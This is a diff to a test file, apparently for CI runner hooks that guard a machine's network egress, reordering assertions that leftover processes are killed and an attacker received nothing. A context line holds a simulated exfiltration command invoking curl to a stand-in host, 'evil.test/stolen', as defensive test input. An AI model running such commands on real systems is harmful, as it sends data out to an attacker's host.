@@ -1,4 +1,4 @@
-/** The bundled hooks, run with the machine's own Node as a runner runs them, on a machine that they guard. */
+/** The bundled hooks, run with Node 24 as a runner runs them, on a machine that they guard. */
 
 import assert from "node:assert/strict";
 import { Job, stateOf, values } from "../support/job.ts";
@@ -78,12 +78,12 @@ os.execvp("curl", ["curl", "-sk", "-m", "9", "https://evil.test/stolen"])') >/de
   assert.ok(Number(waiting.output) >= 1, waiting.output);
   const post = await job.hook("post.js", { ...inputs, ...stateOf(pre) });
   assert.equal(post.code, 0, post.output);
+  assert.equal((await s.machine.sh("pgrep -u 1001 -x 'curl|bash|sleep'")).stdout, "");
+  await s.attackerGotNothing();
   assert.match(
     post.output,
     /^egress: ended what the job left running: [3-9]\d* processes, 0 containers$/m,
   );
-  assert.equal((await s.machine.sh("pgrep -u 1001 -x 'curl|bash|sleep'")).stdout, "");
-  await s.attackerGotNothing();
 });
 
 test("sudo is given and taken by the sub-actions alone", async (s) => {
